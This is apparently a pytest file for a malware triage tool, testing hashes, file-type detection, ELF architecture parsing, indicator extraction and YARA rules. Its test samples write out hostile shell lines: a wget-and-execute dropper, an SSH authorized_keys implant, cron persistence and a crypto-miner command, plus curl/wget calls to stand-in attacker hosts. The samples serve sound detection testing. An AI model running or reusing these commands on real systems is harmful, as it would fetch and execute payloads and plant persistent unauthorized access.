"""Artifact triage on samples built here: hashes, libmagic, fuzzy hashes, ELF architecture,
indicators and the starter YARA rules (each rule matches its sample and nothing else)."""

from __future__ import annotations

import hashlib
import struct
from pathlib import Path

import pytest

from sandtrap.analysis.triage import (
    STARTER_RULES,
    compile_rules,
    elf_arch,
    indicators,
    triage_bytes,
    triage_file,
)


def elf(machine: int, bits: int = 32, big_endian: bool = False, body: bytes = b"") -> bytes:
    """A minimal ELF header (executable) followed by `body`."""
    order = ">" if big_endian else "<"
    ident = b"\x7fELF" + bytes([1 if bits == 32 else 2, 2 if big_endian else 1, 1]) + bytes(9)
    header = ident + struct.pack(order + "HHI", 2, machine, 1)
    return header + bytes(64 - len(header)) + body


SAMPLES = {
    "SandTrap_ELF_UPX_Packed": elf(62, 64, body=b"\0" * 100 + b"UPX!" + b"\0" * 100),
    "SandTrap_Mirai_Like": elf(
        8, 32, big_endian=True, body=b"/bin/busybox MIRAI\0/dev/watchdog\0" + b"\0" * 64
    ),
    "SandTrap_Coin_Miner": b"#!/bin/sh\n./xmrig -o stratum+tcp://pool.minexmr.example.com:4444 "
    b"--donate-level 1\n",
    "SandTrap_Shell_Dropper": b"#!/bin/sh\ncd /tmp; wget -q http://198.51.100.7/bins/x86 -O .x; "
    b"chmod +x .x; ./.x\n",
    "SandTrap_SSH_Key_Implant": b"mkdir -p ~/.ssh; echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAB"
    b"AQC7 mdrfckr' >> ~/.ssh/authorized_keys\n",
    "SandTrap_Cron_Persistence": b"(crontab -l; echo '* * * * * /tmp/.x/upd >/dev/null 2>&1')"
    b" | crontab -\n",
}


@pytest.fixture(scope="module")
def rules() -> object:
    compiled, problems = compile_rules([STARTER_RULES])
    assert problems == []
    return compiled


@pytest.mark.parametrize("rule", sorted(SAMPLES))
def test_each_starter_rule_matches_its_sample_only(rules: object, rule: str) -> None:
    assert triage_bytes(SAMPLES[rule], rules).yara == [rule]


def test_benign_text_matches_nothing(rules: object) -> None:
    result = triage_bytes(b"hello world\n" * 50, rules)
    assert result.yara == []
    assert result.magic == "ASCII text"
    assert result.mime == "text/plain"


def test_hashes_type_and_architecture(rules: object) -> None:
    data = SAMPLES["SandTrap_Mirai_Like"]
    result = triage_bytes(data, rules)
    assert result.sha256 == hashlib.sha256(data).hexdigest()
    assert result.md5 == hashlib.md5(data).hexdigest()  # noqa: S324 - a file hash, not security
    assert result.sha1 == hashlib.sha1(data).hexdigest()  # noqa: S324
    assert result.size == len(data)
    assert result.magic is not None and result.magic.startswith("ELF 32-bit MSB executable, MIPS")
    assert result.elf_arch == "mips-32-be"
    assert result.ssdeep is not None and result.ssdeep.count(":") == 2
    assert result.missing == []


def test_elf_architectures() -> None:
    assert elf_arch(elf(62, 64)) == "x86-64-64-le"
    assert elf_arch(elf(40, 32)) == "arm-32-le"
    assert elf_arch(elf(183, 64)) == "aarch64-64-le"
    assert elf_arch(elf(999, 32)) == "machine-999-32-le"
    assert elf_arch(b"#!/bin/sh\n" + bytes(60)) is None
    assert elf_arch(Path("/bin/ls").read_bytes()[:64]) == "x86-64-64-le"


def test_tlsh_of_a_real_binary_and_none_for_tiny_input() -> None:
    binary = Path("/bin/ls").read_bytes()
    result = triage_bytes(binary)
    assert result.tlsh is not None and result.tlsh.startswith("T1")
    assert result.magic is not None and "ELF 64-bit LSB" in result.magic
    assert triage_bytes(b"tiny").tlsh is None


def test_indicators_urls_public_ips_domains() -> None:
    data = (
        b"wget http://198.51.100.7:8080/bins.sh; curl -s 'https://evil.example.com/a?b=1';"
        b" ping 10.0.0.1 127.0.0.1 8.8.8.8 1.2.3.4.5 libc.so.6 main.c c2.badhost.ru\x00"
        b"tftp://203.0.113.9/x\x00 stratum+tcp://p.example.org:3333"
    )
    urls, ips, domains = indicators(data)
    assert urls == [
        "http://198.51.100.7:8080/bins.sh",
        "https://evil.example.com/a?b=1",
        "tftp://203.0.113.9/x",
        "stratum+tcp://p.example.org:3333",
    ]
    # Documentation ranges are not global; 8.8.8.8 is. 1.2.3.4.5 is no address.
    assert ips == ["8.8.8.8"]
    assert domains == ["evil.example.com", "p.example.org", "c2.badhost.ru"]


def test_hostile_bytes_and_bounds() -> None:
    data = b"http://" + b"a" * 5000 + b"\xff\x00" + b"http://x.com/\x1b[2J" * 500
    urls, _, _ = indicators(data)
    assert len(urls) <= 100
    assert all(len(u) <= 2048 and u.isascii() and "\x1b" not in u for u in urls)


def test_operator_rules_dir_and_a_bad_rule_file(tmp_path: Path) -> None:
    (tmp_path / "mine.yar").write_text(
        'rule Operator_Marker { strings: $a = "OPMARK" condition: $a }'
    )
    (tmp_path / "broken.yar").write_text("rule Broken { condition: nonsense( }")
    compiled, problems = compile_rules([STARTER_RULES, tmp_path])
    assert len(problems) == 1 and "broken.yar" in problems[0]
    assert triage_bytes(b"xx OPMARK xx", compiled).yara == ["Operator_Marker"]
    assert triage_bytes(SAMPLES["SandTrap_Coin_Miner"], compiled).yara == ["SandTrap_Coin_Miner"]


def test_triage_file_hashes_whole_file(tmp_path: Path) -> None:
    path = tmp_path / "a"
    path.write_bytes(SAMPLES["SandTrap_Shell_Dropper"])
    result = triage_file(path)
    assert result.sha256 == hashlib.sha256(path.read_bytes()).hexdigest()
    assert result.urls == ["http://198.51.100.7/bins/x86"]
